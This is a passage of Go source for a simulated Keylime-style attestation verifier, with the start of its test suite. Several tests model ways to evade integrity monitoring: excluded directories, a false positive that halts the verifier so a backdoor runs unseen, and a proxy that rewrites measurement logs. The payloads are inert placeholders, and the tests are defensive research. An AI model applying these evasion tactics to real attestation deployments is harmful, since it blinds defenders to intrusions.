	if sess != nil {
		replaces = sess.id
	}

	// Infrastructure faults (transport errors, timeouts, bad statuses,
	// garbled bodies) are retried per the retry policy and, when the whole
	// round fails, recorded as a transient fault — never as an instant
	// integrity verdict.
	var resp fetched
	var attempts int
	var err error
	needFull := true

	if trySession {
		resp, attempts, err = v.retryFetch(ctx, func(ctx context.Context) (fetched, error) {
			return v.fetchSessionOnce(ctx, a, sess.id, estID, offset)
		})
		switch {
		case errors.Is(err, errNoBinary):
			// The agent lost the binary endpoint (restart, downgrade):
			// the session cannot be checked — renegotiate over JSON.
			a.setNoBinary()
			v.dropSession(a, sess)
			useBinary, sessionsOn = false, false
			checkLevel = CheckForcedFull
			err = nil
		case err != nil:
			return v.roundFault(a, agentID, now, attempts, err)
		case resp.session != nil:
			if reason := checkSessionFrame(sess, resp.session, resp.nonce, offset); reason == "" {
				if a.isRemoved() {
					return Result{}, fmt.Errorf("%w: %s", ErrRemoved, agentID)
				}
				if oerr := v.checkOwned(agentID); oerr != nil {
					return Result{}, oerr
				}
				return v.commitSessionRound(a, sess, attempts, shadowGen), nil
			}
			// Divergence or MAC failure: drop the session and escalate to
			// a fresh full quote in this same round. The full quote — not
			// the failed session check — decides the verdict.
			v.dropSession(a, sess)
			checkLevel = CheckForcedFull
		default:
			// The agent answered the session request with a full quote
			// (unknown/expired session or moved state on its side),
			// already establishing estID: no extra round trip needed.
			checkLevel = CheckForcedFull
			needFull = false
		}
	}

	if needFull {
		var fullAttempts int
		resp, fullAttempts, err = v.fetchEvidence(ctx, a, offset, estID, replaces, useBinary)
		attempts += fullAttempts
		if err != nil {
			return v.roundFault(a, agentID, now, attempts, err)
		}
	}
	rebooted := false
	if resp.resp.TotalEntries < offset {
		// The agent's measurement list is shorter than the verified
		// prefix: the machine rebooted. Restart verification from zero.
		// The refetch reuses the retry policy: a network blip during the
		// reboot window must not be mistaken for an integrity problem.
		rebooted = true
		offset = 0
		var refetchAttempts int
		resp, refetchAttempts, err = v.fetchEvidence(ctx, a, 0, estID, replaces, useBinary)
		attempts += refetchAttempts
		if err != nil {
			return v.roundFault(a, agentID, now, attempts, err)
		}
	}
	if a.isRemoved() {
		// Unenrolled while the evidence fetch was in flight: no verdict
		// may be recorded (and no revocation fired) for an agent that is
		// no longer monitored.
		return Result{}, fmt.Errorf("%w: %s", ErrRemoved, agentID)
	}
	if err := v.checkOwned(agentID); err != nil {
		// Ownership lost while the fetch was in flight (handoff mid-round):
		// the gaining verifier records the verdicts from here on.
		return Result{}, err
	}
	v.commsOK(a)

	// Binary rounds carry the quote structurally; JSON rounds decode it
	// from the base64/hex wire form.
	quote := resp.quote
	if !resp.binary {
		quote, err = api.DecodeQuote(resp.resp.Quote)
		if err != nil {
			return Result{CheckLevel: checkLevel,
				Failure: v.fail(a, Failure{Time: now, Type: FailureQuoteInvalid, Detail: err.Error()})}, nil
		}
	}
	pcrs, err := v.verifyQuote(a, &quote, resp.nonce)
	if err != nil {
		return Result{CheckLevel: checkLevel,
			Failure: v.fail(a, Failure{Time: now, Type: FailureQuoteInvalid, Detail: err.Error()})}, nil
	}
	entries, err := ima.ParseLog(resp.resp.IMALog)
	if err != nil {
		return Result{CheckLevel: checkLevel,
			Failure: v.fail(a, Failure{Time: now, Type: FailureLogTampered, Detail: err.Error()})}, nil
	}

	// Measured boot validation (when a golden reference state is set):
	// the boot event log must replay to the quoted PCR 0/4 values, which
	// must match the golden values.
	if bootGolden != nil {
		mbLog, err := api.DecodeBootLog(resp.resp.MBLog)
		if err != nil {
			return Result{RebootDetected: rebooted, CheckLevel: checkLevel,
				Failure: v.fail(a, Failure{Time: now, Type: FailureMeasuredBoot, Detail: err.Error()})}, nil
		}
		if err := bootGolden.Validate(mbLog, pcrs); err != nil {
			return Result{RebootDetected: rebooted, CheckLevel: checkLevel,
				Failure: v.fail(a, Failure{Time: now, Type: FailureMeasuredBoot, Detail: err.Error()})}, nil
		}
	}

	// Structural validation and replay, single pass: each entry's template
	// hash is recomputed once (Valid) and the running aggregate folded
	// incrementally, with every intermediate value kept so the verified
	// frontier below needs no second replay. A structurally invalid entry
	// anywhere in the batch fails the round before the aggregate is
	// compared, matching the original multi-pass ordering.
	a.mu.Lock()
	prefix := a.prefixAggregate
	if rebooted {
		prefix = tpm.Digest{}
	}
	a.mu.Unlock()
	aggs, invalid := verifyAndFold(prefix, entries, v.verifyWorkers)
	if invalid >= 0 {
		f := Failure{Time: now, Type: FailureLogTampered, Path: entries[invalid].Path,
			Detail: "template hash does not match entry fields"}
		return Result{RebootDetected: rebooted, CheckLevel: checkLevel, Failure: v.fail(a, f)}, nil
	}
	aggregate := prefix
	if len(entries) > 0 {
		aggregate = aggs[len(entries)-1]
	}
	if aggregate != pcrs[tpm.PCRIMA] {
		f := Failure{Time: now, Type: FailureAggregateMismatch,
			Detail: "IMA log replay does not match quoted PCR 10"}
		return Result{RebootDetected: rebooted, CheckLevel: checkLevel, Failure: v.fail(a, f)}, nil
	}

	// Policy evaluation, entry by entry. Under stop-on-failure (Keylime's
	// default, problem P2) evaluation stops at the first failing entry,
	// which stays at the verification frontier so a resumed attestation
	// re-evaluates it. Under the continue-on-failure mitigation every
	// entry is evaluated and each failure is recorded.
	//
	// When a shadow candidate is installed, each entry the loop visits is
	// additionally checked against it in the same pass: a diverging verdict
	// is recorded (never alerted), and a round with zero would-fail
	// divergence and a passing active verdict advances the clean-round
	// counter the rollout controller gates promotion on.
	verified := 0
	var firstFailure *Failure
	var shadowWF, shadowWP int
	var shadowDivs []ShadowDivergence
	for i, e := range entries {
		if e.Path == ima.BootAggregatePath {
			verified = i + 1
			continue
		}
		if v.fileSigTrust != nil && e.Signature != "" &&
			v.fileSigTrust.VerifyHex(e.FileDigest, e.Signature) {
			// Vendor-signed file: appraised by key, no policy entry
			// required (§V signed-hashes improvement) — for the shadow
			// candidate too, since signature trust is policy-independent.
			verified = i + 1
			continue
		}
		activeErr := pol.Check(e.Path, e.FileDigest)
		if shadowPol != nil {
			shadowErr := shadowPol.Check(e.Path, e.FileDigest)
			if (shadowErr == nil) != (activeErr == nil) {
				d := ShadowDivergence{Time: now, Path: e.Path, WouldFail: shadowErr != nil}
				if shadowErr != nil {
					shadowWF++
					d.Detail = shadowErr.Error()
				} else {
					shadowWP++
					d.Detail = activeErr.Error()
				}
				if len(shadowDivs) < maxShadowDivergence {
					shadowDivs = append(shadowDivs, d)
				}
			}
		}
		if activeErr != nil {
			ftype := FailureNotInPolicy
			if errors.Is(activeErr, policy.ErrHashMismatch) {
				ftype = FailureHashMismatch
			}
			f := v.fail(a, Failure{Time: now, Type: ftype, Path: e.Path, Detail: activeErr.Error()})
			if firstFailure == nil {
				firstFailure = f
			}
			if !v.continueOnFailure {
				break
			}
		}
		verified = i + 1
	}

	a.mu.Lock()
	a.nextOffset = offset + verified
	// The verified-prefix aggregate is a lookup into the fold computed
	// above, not a second replay.
	a.prefixAggregate = prefix
	if verified > 0 {
		a.prefixAggregate = aggs[verified-1]
	}
	if firstFailure == nil {
		a.state = StateAttesting
		a.attestations++
		if sessionsOn && resp.established && !estID.IsZero() {
			// The agent derived the same key from this verified exchange;
			// the session's reference state is the just-verified quote.
			key := session.DeriveKey(a.akName, quote.Signature, resp.nonce, estID)
			a.sess = &verifierSession{
				id:          estID,
				key:         key,
				mac:         session.NewMACer(key[:]),
				established: now,
				composite:   quote.Attested.PCRDigest,
				total:       offset + verified,
			}
		} else if sess != nil && a.sess == sess {
			// A full round that did not (re)establish retires the session.
			a.sess = nil
		}
	}
	a.lastCheck = checkLevel
	// Commit the round's shadow evaluation — only if the slot still holds
	// the generation this round snapshotted (a concurrent rollout step may
	// have replaced or cleared the candidate mid-round).
	if shadowPol != nil && a.shadowPol != nil && a.shadowGen == shadowGen {
		a.shadowRounds++
		a.shadowWouldFail += shadowWF
		a.shadowWouldPass += shadowWP
		if shadowWF == 0 && firstFailure == nil {
			a.shadowClean++
		} else {
			a.shadowClean = 0
		}
		a.shadowDivergences = append(a.shadowDivergences, shadowDivs...)
		if n := len(a.shadowDivergences); n > maxShadowDivergence {
			a.shadowDivergences = append(a.shadowDivergences[:0], a.shadowDivergences[n-maxShadowDivergence:]...)
		}
	}
	res := Result{
		NewEntries:      len(entries),
		VerifiedEntries: a.nextOffset,
		RebootDetected:  rebooted,
		Failure:         firstFailure,
		Attempts:        attempts,
		ShadowWouldFail: shadowWF,
		ShadowWouldPass: shadowWP,
		CheckLevel:      checkLevel,
	}
	a.mu.Unlock()
	v.markDirty(agentID)
	return res, nil
}

type fetched struct {
	resp  api.QuoteResponse
	nonce []byte
	// binary marks evidence that arrived on the binary wire format:
	// quote then carries the structural quote (resp.Quote stays empty)
	// and established reports whether the agent installed the session
	// the request asked to establish.
	binary      bool
	quote       tpm.Quote
	established bool
	// session is the agent's session-MAC answer, when the round was a
	// session round the agent did not escalate.
	session *api.SessionRound
}

// roundFault finishes a round whose evidence fetch failed: removal and
// ownership changes observed mid-flight abort without a verdict,
// anything else records a transient comms fault.
func (v *Verifier) roundFault(a *monitored, agentID string, now time.Time, attempts int, err error) (Result, error) {
	if a.isRemoved() {
		return Result{}, fmt.Errorf("%w: %s", ErrRemoved, agentID)
	}
	if oerr := v.checkOwned(agentID); oerr != nil {
		return Result{}, oerr
	}
	return v.commsFault(a, now, attempts, err), nil
}

// fetchQuote challenges the agent with a fresh nonce. Each attempt is
// bounded by the retry policy's request timeout on the verifier's Clock —
// including the body read, so a hung agent cannot stall the round. Errors
// are classified: transport errors, timeouts, 5xx statuses, and garbled
// bodies are transient (retryable); 4xx statuses and malformed requests are
// permanent infrastructure faults (still not integrity verdicts).
func (v *Verifier) fetchQuote(ctx context.Context, agentURL string, offset int) (fetched, error) {
	nonce := make([]byte, nonceSize)
	if err := v.nonces.next(nonce); err != nil {
		return fetched{}, permanentErr("generating nonce: %v", err)
	}
	tctx, stop := v.virtualTimeout(ctx, v.retry.RequestTimeout)
	defer stop()
	u := agentURL + "/v2/quotes/integrity?nonce=" + base64.URLEncoding.EncodeToString(nonce) +
		"&offset=" + strconv.Itoa(offset)
	req, err := http.NewRequestWithContext(tctx, http.MethodGet, u, nil)
	if err != nil {
		return fetched{}, permanentErr("building quote request: %v", err)
	}
	httpResp, err := v.client.Do(req)
	if err != nil {
		return fetched{}, transientErr("quote request: %v", err)
	}
	defer func() { _ = httpResp.Body.Close() }()
	if httpResp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(httpResp.Body, 4096))
		if httpResp.StatusCode >= 500 {
			return fetched{}, transientErr("quote request: status %d: %s", httpResp.StatusCode, body)
		}
		return fetched{}, permanentErr("quote request: status %d: %s", httpResp.StatusCode, body)
	}
	var qr api.QuoteResponse
	if err := json.NewDecoder(httpResp.Body).Decode(&qr); err != nil {
		return fetched{}, transientErr("decoding quote response: %v", err)
	}
	return fetched{resp: qr, nonce: nonce}, nil
}

// PollStats summarizes one PollAll sweep over the fleet. Halted and
// Quarantined expose the agents a sweep did NOT attest — the silent blind
// spots a fleet operator must see.
type PollStats struct {
	// Attested counts rounds that obtained evidence and reached a verdict.
	Attested int
	// Failed counts attested rounds whose verdict was a failure.
	Failed int
	// Degraded counts rounds that ended in a transient infrastructure
	// fault (no verdict).
	Degraded int
	// Halted counts agents skipped because stop-on-failure halted them.
	Halted int
	// Quarantined counts agents skipped by an open circuit breaker.
	Quarantined int
	// Removed counts agents that were unenrolled between the sweep's ID
	// snapshot and their round — fleet churn, not an attestation problem.
	Removed int
	// NotOwned counts agents skipped (or abandoned mid-round) because the
	// cluster ownership predicate assigns them to another verifier — ring
	// churn during a handoff, not an attestation problem.
	NotOwned int
	// Errors counts other round errors.
	Errors int
	// SessionRounds counts attested rounds authenticated by session MAC.
	SessionRounds int
	// FullQuoteRounds counts attested rounds authenticated by a full
	// quote (scheduled or forced).
	FullQuoteRounds int
	// ForcedUpgrades counts full-quote rounds that were escalations: a
	// session existed but was refused (MAC failure, state divergence,
	// agent escalation, restored/handed-off session). Always a subset of
	// FullQuoteRounds.
	ForcedUpgrades int
	// AuditBatched counts audit records committed through the sweep's
	// batched append (zero when audit batching is off).
	AuditBatched int
	// AuditFlushErrs counts sweeps whose batched audit append failed —
	// those sweeps' records are NOT durable and the error was reported
	// here rather than failing every round.
	AuditFlushErrs int
}

// add folds o into s.
func (s *PollStats) add(o PollStats) {
	s.Attested += o.Attested
	s.Failed += o.Failed
	s.Degraded += o.Degraded
	s.Halted += o.Halted
	s.Quarantined += o.Quarantined
	s.Removed += o.Removed
	s.NotOwned += o.NotOwned
	s.Errors += o.Errors
	s.SessionRounds += o.SessionRounds
	s.FullQuoteRounds += o.FullQuoteRounds
	s.ForcedUpgrades += o.ForcedUpgrades
	s.AuditBatched += o.AuditBatched
	s.AuditFlushErrs += o.AuditFlushErrs
}

// record classifies one round outcome into the stats.
func (s *PollStats) record(res Result, err error) {
	switch {
	case errors.Is(err, ErrHalted):
		s.Halted++
	case errors.Is(err, ErrQuarantined):
		s.Quarantined++
	case errors.Is(err, ErrRemoved), errors.Is(err, ErrUnknownAgent):
		// The ID came from this sweep's snapshot, so an unknown agent
		// can only mean it was removed after the snapshot was taken.
		s.Removed++
	case errors.Is(err, ErrNotOwner):
		s.NotOwned++
	case err != nil:
		s.Errors++
	case res.Degraded:
		s.Degraded++
	default:
		s.Attested++
		if res.Failure != nil {
			s.Failed++
		}
		switch res.CheckLevel {
		case CheckSession:
			s.SessionRounds++
		case CheckFull:
			s.FullQuoteRounds++
		case CheckForcedFull:
			s.FullQuoteRounds++
			s.ForcedUpgrades++
		}
	}
}

// PollAll runs one attestation round for every monitored agent through a
// bounded worker pool, so one slow or hung agent delays only its own round,
// not the fleet sweep. Per-agent rounds stay serialized on the agent's poll
// mutex. Each worker accumulates its own PollStats, merged once when the
// sweep drains — there is no shared counter lock on the sweep hot path.
// Agents removed after the sweep's ID snapshot surface as Removed, not
// Errors, so operators can tell fleet churn from real round errors.
func (v *Verifier) PollAll(ctx context.Context) PollStats {
	ids := v.AgentIDs()
	workers := v.pollConcurrency
	if workers > len(ids) {
		workers = len(ids)
	}
	if workers < 1 {
		workers = 1
	}
	batchAudit := v.auditBatch && v.auditLog != nil
	var (
		wg      sync.WaitGroup
		work    = make(chan string)
		stats   = make([]PollStats, workers)
		entries = make([][]audit.Entry, workers)
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(st *PollStats, collect *[]audit.Entry) {
			defer wg.Done()
			if !batchAudit {
				collect = nil
			}
			for id := range work {
				res, err := v.attestRecorded(ctx, id, collect)
				st.record(res, err)
			}
		}(&stats[w], &entries[w])
	}
	for _, id := range ids {
		work <- id
	}
	close(work)
	wg.Wait()
	var st PollStats
	for i := range stats {
		st.add(stats[i])
	}
	if batchAudit {
		// The whole sweep's audit records in one journal write vector,
		// one fsync. PollAll does not return until the batch is durable,
		// so the commit-before-ack contract holds at sweep granularity.
		var sweep []audit.Entry
		for _, es := range entries {
			sweep = append(sweep, es...)
		}
		recs, err := v.auditLog.AppendBatch(sweep)
		st.AuditBatched += len(recs)
		if err != nil {
			st.AuditFlushErrs++
		}
	}
	v.notePoll(st)
	return st
}

// notePoll folds one sweep's stats into the cumulative counters served
// by the "poll" stats provider.
func (v *Verifier) notePoll(st PollStats) {
	v.statsMu.Lock()
	v.pollSweeps++
	v.pollTotals.add(st)
	v.pollLast = st
	v.statsMu.Unlock()
}

// PollStatsReport is the "poll" stats provider's payload
// (GET /v2/stats/poll): cumulative counters across all sweeps plus the
// last completed sweep. The session/full-quote/forced-upgrade split is
// what lets an operator confirm the fleet is riding the session fast
// path — and spot a fleet-wide forced-upgrade spike, which means state
// is churning or something is replaying MACs.
type PollStatsReport struct {
	Sweeps     int       `json:"sweeps"`
	Cumulative PollStats `json:"cumulative"`
	LastSweep  PollStats `json:"last_sweep"`
}

// pollStatsSnapshot is the registered "poll" stats provider.
func (v *Verifier) pollStatsSnapshot() any {
	v.statsMu.Lock()
	defer v.statsMu.Unlock()
	return PollStatsReport{
		Sweeps:     v.pollSweeps,
		Cumulative: v.pollTotals,
		LastSweep:  v.pollLast,
	}
}

// Run polls every monitored agent at the configured interval until the
// context is cancelled. Agents added while running are picked up on the
// next tick.
func (v *Verifier) Run(ctx context.Context) error {
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-v.clock.After(v.pollInterval):
		}
		v.PollAll(ctx)
	}
}

// StartPolling runs the continuous attestation loop for one agent until the
// context is cancelled or (under stop-on-failure) the agent halts. It
// returns the number of attestation rounds performed.
func (v *Verifier) StartPolling(ctx context.Context, agentID string) (int, error) {
	rounds := 0
	for {
		select {
		case <-ctx.Done():
			return rounds, ctx.Err()
		case <-v.clock.After(v.pollInterval):
		}
		_, err := v.AttestOnce(ctx, agentID)
		if errors.Is(err, ErrHalted) {
			// Problem P2: the verifier stops polling after a failure.
			return rounds, err
		}
		if errors.Is(err, ErrQuarantined) {
			// Open breaker: skip this tick, keep the loop alive — the
			// agent is re-probed when the reprobe deadline passes.
			continue
		}
		if err != nil {
			return rounds, err
		}
		rounds++
	}
}
