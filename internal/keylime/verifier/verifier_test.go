package verifier_test

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/ima"
	"repro/internal/keylime/agent"
	"repro/internal/keylime/api"
	"repro/internal/keylime/audit"
	"repro/internal/keylime/registrar"
	"repro/internal/keylime/tenant"
	"repro/internal/keylime/verifier"
	"repro/internal/machine"
	"repro/internal/measuredboot"
	"repro/internal/mirror"
	"repro/internal/policy"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// stack wires a full Keylime deployment over loopback HTTP.
type stack struct {
	m      *machine.Machine
	ag     *agent.Agent
	reg    *registrar.Registrar
	regSrv *httptest.Server
	agSrv  *httptest.Server
	v      *verifier.Verifier
}

func newStack(t testing.TB, machineOpts []machine.Option, vOpts ...verifier.Option) *stack {
	t.Helper()
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	machineOpts = append([]machine.Option{machine.WithTPMOptions(tpm.WithEKBits(1024))}, machineOpts...)
	m, err := machine.New(ca, machineOpts...)
	if err != nil {
		t.Fatalf("New machine: %v", err)
	}
	reg := registrar.New(ca.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	t.Cleanup(regSrv.Close)
	ag := agent.New(m)
	agSrv := httptest.NewServer(ag.Handler())
	t.Cleanup(agSrv.Close)
	if err := ag.Register(regSrv.URL, agSrv.URL); err != nil {
		t.Fatalf("agent.Register: %v", err)
	}
	v := verifier.New(regSrv.URL, vOpts...)
	return &stack{m: m, ag: ag, reg: reg, regSrv: regSrv, agSrv: agSrv, v: v}
}

// policyFromMachine builds a runtime policy covering every executable
// currently on persistent filesystems.
func policyFromMachine(t *testing.T, m *machine.Machine, excludes ...string) *policy.RuntimePolicy {
	t.Helper()
	pol := policy.New()
	err := m.FS().Walk("/", func(info vfs.FileInfo) error {
		if info.Mode.IsExec() {
			pol.Add(info.Path, info.Digest)
		}
		return nil
	})
	if err != nil {
		t.Fatalf("Walk: %v", err)
	}
	if err := pol.SetExcludes(excludes); err != nil {
		t.Fatalf("SetExcludes: %v", err)
	}
	return pol
}

func addAgent(t testing.TB, s *stack, pol *policy.RuntimePolicy) {
	t.Helper()
	if err := s.v.AddAgent(s.m.UUID(), s.agSrv.URL, pol); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
}

func attest(t *testing.T, s *stack) verifier.Result {
	t.Helper()
	res, err := s.v.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce: %v", err)
	}
	return res
}

func writeExec(t *testing.T, m *machine.Machine, path, content string) {
	t.Helper()
	if err := m.WriteFile(path, []byte(content), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile %s: %v", path, err)
	}
}

func exec(t *testing.T, m *machine.Machine, path string) {
	t.Helper()
	if err := m.Exec(path); err != nil {
		t.Fatalf("Exec %s: %v", path, err)
	}
}

func TestEndToEndSuccessfulAttestation(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "bin-1")
	writeExec(t, s.m, "/usr/bin/other", "bin-2")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	exec(t, s.m, "/usr/bin/other")

	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation failed: %+v", res.Failure)
	}
	if res.VerifiedEntries != 3 { // boot aggregate + two tools
		t.Fatalf("VerifiedEntries = %d, want 3", res.VerifiedEntries)
	}
	st, err := s.v.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if st.State != verifier.StateAttesting || st.Attestations != 1 {
		t.Fatalf("Status = %+v", st)
	}
}

func TestIncrementalAttestationOnlyFetchesNewEntries(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/a", "a")
	writeExec(t, s.m, "/usr/bin/b", "b")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/a")
	res1 := attest(t, s)
	if res1.NewEntries != 2 {
		t.Fatalf("first round NewEntries = %d, want 2", res1.NewEntries)
	}
	exec(t, s.m, "/usr/bin/b")
	res2 := attest(t, s)
	if res2.NewEntries != 1 {
		t.Fatalf("second round NewEntries = %d, want 1 (incremental)", res2.NewEntries)
	}
	// No activity: zero new entries, still a successful round.
	res3 := attest(t, s)
	if res3.NewEntries != 0 || res3.Failure != nil {
		t.Fatalf("idle round = %+v", res3)
	}
}

func TestHashMismatchFailure(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	// The file changes after the policy was built — an unscheduled update.
	writeExec(t, s.m, "/usr/bin/tool", "v2")
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure == nil || res.Failure.Type != verifier.FailureHashMismatch {
		t.Fatalf("Failure = %+v, want hash mismatch", res.Failure)
	}
	if res.Failure.Path != "/usr/bin/tool" {
		t.Fatalf("failure path = %q", res.Failure.Path)
	}
}

func TestNotInPolicyFailure(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policyFromMachine(t, s.m))
	writeExec(t, s.m, "/usr/bin/new-tool", "fresh") // newly added file
	exec(t, s.m, "/usr/bin/new-tool")
	res := attest(t, s)
	if res.Failure == nil || res.Failure.Type != verifier.FailureNotInPolicy {
		t.Fatalf("Failure = %+v, want file-not-in-policy", res.Failure)
	}
}

func TestExcludedDirectoryPasses_P1(t *testing.T) {
	// Keylime-side exclusion: even when IMA measures a file (mitigated IMA
	// policy covers tmpfs), a Keylime exclude for /tmp waves it through.
	s := newStack(t, []machine.Option{machine.WithIMAOptions(ima.WithPolicy(ima.MitigatedPolicy()))})
	addAgent(t, s, policyFromMachine(t, s.m, "/tmp/.*"))
	writeExec(t, s.m, "/tmp/dropper", "evil")
	exec(t, s.m, "/tmp/dropper")
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("excluded path flagged: %+v", res.Failure)
	}
	if res.NewEntries != 2 { // boot aggregate + dropper (measured, excluded)
		t.Fatalf("NewEntries = %d, want 2", res.NewEntries)
	}
}

func TestStopOnFailureHaltsPolling_P2(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))

	// Attacker first triggers a benign false positive.
	writeExec(t, s.m, "/usr/local/bin/benign-new", "benign")
	exec(t, s.m, "/usr/local/bin/benign-new")
	res := attest(t, s)
	if res.Failure == nil {
		t.Fatal("benign FP not flagged")
	}

	// Keylime is now halted: the attack executes inside the blind window.
	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	exec(t, s.m, "/usr/bin/backdoor")
	if _, err := s.v.AttestOnce(context.Background(), s.m.UUID()); !errors.Is(err, verifier.ErrHalted) {
		t.Fatalf("AttestOnce while halted: %v, want ErrHalted", err)
	}
	st, _ := s.v.Status(s.m.UUID())
	if !st.Halted || st.State != verifier.StateFailed {
		t.Fatalf("Status = %+v, want halted+failed", st)
	}
	for _, f := range st.Failures {
		if f.Path == "/usr/bin/backdoor" {
			t.Fatal("backdoor reported while verifier was halted")
		}
	}

	// Operator resolves the FP (adds the benign file) and resumes: the
	// backdoor is then discovered at the frontier.
	fixed := policyFromMachine(t, s.m)
	fixed.Remove("/usr/bin/backdoor") // operator only fixes the benign file
	if err := s.v.UpdatePolicy(s.m.UUID(), fixed); err != nil {
		t.Fatalf("UpdatePolicy: %v", err)
	}
	if err := s.v.Resume(s.m.UUID()); err != nil {
		t.Fatalf("Resume: %v", err)
	}
	res = attest(t, s)
	if res.Failure == nil || res.Failure.Path != "/usr/bin/backdoor" {
		t.Fatalf("after resume Failure = %+v, want backdoor detection", res.Failure)
	}
}

func TestContinueOnFailureEvaluatesFullLog(t *testing.T) {
	s := newStack(t, nil, verifier.WithContinueOnFailure(true))
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))

	// Two unknown executables in one round: both must be reported.
	writeExec(t, s.m, "/usr/local/bin/benign-new", "benign")
	exec(t, s.m, "/usr/local/bin/benign-new")
	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	exec(t, s.m, "/usr/bin/backdoor")
	res := attest(t, s)
	if res.Failure == nil {
		t.Fatal("no failure reported")
	}
	st, _ := s.v.Status(s.m.UUID())
	if st.Halted {
		t.Fatal("continue-on-failure agent halted")
	}
	var paths []string
	for _, f := range st.Failures {
		paths = append(paths, f.Path)
	}
	joined := strings.Join(paths, ",")
	if !strings.Contains(joined, "/usr/local/bin/benign-new") || !strings.Contains(joined, "/usr/bin/backdoor") {
		t.Fatalf("failures = %v, want both entries flagged", paths)
	}
	// Polling continues: the next round works and re-flags nothing new.
	res2 := attest(t, s)
	if res2.NewEntries != 0 {
		t.Fatalf("NewEntries = %d after full evaluation, want 0", res2.NewEntries)
	}
}

func TestRebootDetectionResetsVerification(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.VerifiedEntries != 2 {
		t.Fatalf("VerifiedEntries = %d, want 2", res.VerifiedEntries)
	}
	if err := s.m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	res = attest(t, s)
	if !res.RebootDetected {
		t.Fatal("reboot not detected")
	}
	if res.Failure != nil {
		t.Fatalf("reboot caused failure: %+v", res.Failure)
	}
	if res.VerifiedEntries != 1 { // fresh boot aggregate
		t.Fatalf("VerifiedEntries after reboot = %d, want 1", res.VerifiedEntries)
	}
	// Re-execution after reboot is re-measured and passes.
	exec(t, s.m, "/usr/bin/tool")
	res = attest(t, s)
	if res.Failure != nil || res.VerifiedEntries != 2 {
		t.Fatalf("post-reboot attestation = %+v", res)
	}
}

// tamperingProxy forwards quote requests to the real agent but rewrites the
// measurement list, modeling an attacker doctoring the log in transit.
func tamperingProxy(t *testing.T, agentURL string, tamper func(*api.QuoteResponse)) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		resp, err := http.Get(agentURL + req.URL.String())
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer func() { _ = resp.Body.Close() }()
		var qr api.QuoteResponse
		if err := json.NewDecoder(resp.Body).Decode(&qr); err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		tamper(&qr)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(qr)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestTamperedLogEntryDetected(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	addAgent(t, s, policy.New()) // empty policy: the entry WOULD fail
	exec(t, s.m, "/usr/bin/backdoor")

	// Attacker rewrites the log to hide the backdoor behind a benign path,
	// recomputing the template hash (so entries stay self-consistent) —
	// replay then diverges from the quoted PCR.
	proxy := tamperingProxy(t, s.agSrv.URL, func(qr *api.QuoteResponse) {
		entries, err := ima.ParseLog(qr.IMALog)
		if err != nil {
			return
		}
		for i := range entries {
			if entries[i].Path == "/usr/bin/backdoor" {
				entries[i].Path = "/usr/bin/benign"
				entries[i].TemplateHash = ima.TemplateHash(entries[i].FileDigest, entries[i].Path)
			}
		}
		qr.IMALog = ima.FormatLog(entries)
	})
	v2 := verifier.New(s.regSrv.URL)
	if err := v2.AddAgent(s.m.UUID(), proxy.URL, policy.New()); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	res, err := v2.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce: %v", err)
	}
	if res.Failure == nil || res.Failure.Type != verifier.FailureAggregateMismatch {
		t.Fatalf("Failure = %+v, want aggregate mismatch", res.Failure)
	}
}

func TestInconsistentEntryDetected(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "x")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	proxy := tamperingProxy(t, s.agSrv.URL, func(qr *api.QuoteResponse) {
		// Rewrite a file digest without fixing the template hash.
		entries, err := ima.ParseLog(qr.IMALog)
		if err != nil || len(entries) < 2 {
			return
		}
		entries[1].FileDigest[0] ^= 0xff
		qr.IMALog = ima.FormatLog(entries)
	})
